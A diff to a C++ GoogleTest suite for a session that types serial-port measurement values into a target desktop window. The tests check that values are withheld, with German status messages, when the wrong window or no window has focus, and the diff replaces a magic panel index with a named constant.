@@ -894,9 +361,9 @@ protected:
         session->startUp();
     }
     void measure(const std::string& line) {
-        session->port().OnReceiveData(line.data(), static_cast<std::int32_t>(line.size()));
+        receive(line);
     }
-    test::FakeFocusWindow focus;
+    FakeFocusWindow focus;
 };
 
 TEST_F(TargetWindowSessionTest, AValueForAnotherWindowIsNotTypedAnywhereAndTheStepWaitsForTheTarget) {
@@ -911,15 +378,15 @@ TEST_F(TargetWindowSessionTest, AValueForAnotherWindowIsNotTypedAnywhereAndTheSt
     EXPECT_THAT(keys.texts, ElementsAre("1,50", "{TAB}")) << "neither the value nor its keys";
     EXPECT_EQ(sequence().CurrentStep, 2);
     EXPECT_EQ(view.beeps, 1);
-    EXPECT_EQ(view.panels[5], "Zielfenster nicht aktiv: Posteingang; neu (thunderbird, thunderbird)");
+    EXPECT_EQ(view.panels[StatusPanel::Line], "Zielfenster nicht aktiv: Posteingang; neu (thunderbird, thunderbird)");
     // Nothing has the focus, or the desktop cannot be asked: refused alike.
     focus.window.reset();
     measure("A: 2,6\r");
-    EXPECT_EQ(view.panels[5], "Zielfenster nicht aktiv: kein Fenster");
+    EXPECT_EQ(view.panels[StatusPanel::Line], "Zielfenster nicht aktiv: kein Fenster");
     focus.focus("soffice.bin", "libreoffice-calc", "Messung.ods");
     focus.failure = "the X display went away";
     measure("A: 2,7\r");
-    EXPECT_EQ(view.panels[5], "Zielfenster nicht aktiv: unbekannt (the X display went away)");
+    EXPECT_EQ(view.panels[StatusPanel::Line], "Zielfenster nicht aktiv: unbekannt (the X display went away)");
     EXPECT_EQ(view.beeps, 3);
 
     // The target is back: the step that waited takes the next value.
@@ -989,7 +456,7 @@ TEST_F(TargetWindowSessionTest, TheDialogsTargetIsKeptInTheSettingsAndComesBackA
     testing::internal::CaptureStderr();
     session->startUp();
     EXPECT_THAT(testing::internal::GetCapturedStderr(), HasSubstr("Zielfenster wird nicht gepr\xFC" "ft"));
-    EXPECT_THAT(view.panels[5], HasSubstr("nicht gepr\xFC" "ft"));
+    EXPECT_THAT(view.panels[StatusPanel::Line], HasSubstr("nicht gepr\xFC" "ft"));
     measure("A: 1,5\r");
     EXPECT_THAT(keys.texts, ElementsAre("1,50", "{TAB}"));
 }
